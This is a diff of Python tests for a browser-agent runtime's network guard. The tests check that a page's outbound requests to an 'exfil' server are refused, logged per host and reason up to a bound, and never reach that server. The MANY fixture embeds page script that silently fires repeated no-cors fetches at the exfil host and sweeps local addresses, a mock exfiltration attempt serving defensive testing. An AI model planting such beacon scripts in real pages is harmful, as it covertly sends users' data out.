@@ -199,3 +199,65 @@ async def test_a_slow_page_loads_within_the_navigation_timeout(
             "send_msg_to_user('done')"])), tmp_path)
     assert summary.status == "finished", summary.error
     assert "Slow page" in read_steps(tmp_path / "slow")[0].axtree
+
+
+async def test_the_refused_requests_of_a_leaky_page_are_in_its_steps(
+    browser: Browser, leaky_servers: tuple[Site, Site], tmp_path: Path
+) -> None:
+    """Every channel's refusal (the proxy's, on its own thread) reaches the step record
+    and the summary: before, they were only debug log lines, and an exfiltration attempt
+    left no trace."""
+    site, exfil = leaky_servers
+    task = WebTask(id="leaky", url=f"http://127.0.0.1:{site.port}/leaky", goal="Look.",
+                   max_steps=3)
+    model = scripted(["noop(2000)", "send_msg_to_user('done')"])
+    summary = await run_episode(task, EpisodeResources(browser, model), tmp_path)
+    assert summary.status == "finished", summary.error
+    records = read_steps(tmp_path / "leaky")
+    refused = [c for r in records for c in r.refused_connections]
+    to_exfil = [c for c in refused if c.host == f"127.0.0.1:{exfil.port}"]
+    assert to_exfil and all("private" in c.reason or "task's own" in c.reason
+                            for c in to_exfil), refused
+    # the 11 channels, the redirect's hop among them (the ping may go unsent)
+    assert sum(c.count for c in to_exfil) >= 10, refused
+    assert summary.refused_connections == sum(
+        sum(c.count for c in r.refused_connections) + r.refused_connections_more
+        for r in records)
+    assert sum(exfil.hits.values()) == 0, exfil.hits
+
+
+MANY = """<html><head><title>t</title></head><body><h1>Many</h1><script>
+(async () => {{
+  for (let i = 0; i < 5; i++)
+    await fetch('{exfil}/again?' + i, {{mode: 'no-cors'}}).catch(() => 0);
+  for (let i = 2; i < 32; i++)
+    await fetch('http://127.0.0.' + i + ':{exfil_port}/many', {{mode: 'no-cors'}})
+      .catch(() => 0);
+  document.title = 'done';
+}})();
+</script></body></html>"""
+
+
+async def test_refused_requests_are_listed_by_host_and_reason_up_to_a_bound(
+    browser: Browser, leaky_servers: tuple[Site, Site], tmp_path: Path
+) -> None:
+    from linewise.runtime.browser.guard_rules import REFUSED_LISTED
+
+    site, exfil = leaky_servers
+    site.pages["/many"] = (200, {}, MANY)
+    site.fill["exfil_port"] = str(exfil.port)
+    task = WebTask(id="many", url=f"http://127.0.0.1:{site.port}/many", goal="Look.",
+                   max_steps=3)
+    model = scripted(["noop(3000)", "send_msg_to_user('done')"])
+    summary = await run_episode(task, EpisodeResources(browser, model), tmp_path)
+    assert summary.status == "finished", summary.error
+    first, *rest = read_steps(tmp_path / "many")
+    listed = first.refused_connections
+    assert len(listed) == REFUSED_LISTED == 20
+    assert (listed[0].host, listed[0].count) == (f"127.0.0.1:{exfil.port}", 5)
+    assert [c.host for c in listed[1:]] == [f"127.0.0.{i}:{exfil.port}" for i in range(2, 21)]
+    assert all(c.count == 1 for c in listed[1:])
+    assert first.refused_connections_more == 11  # 127.0.0.21 to .31
+    assert summary.refused_connections == 35
+    assert all(not r.refused_connections for r in rest)
+    assert sum(exfil.hits.values()) == 0, exfil.hits
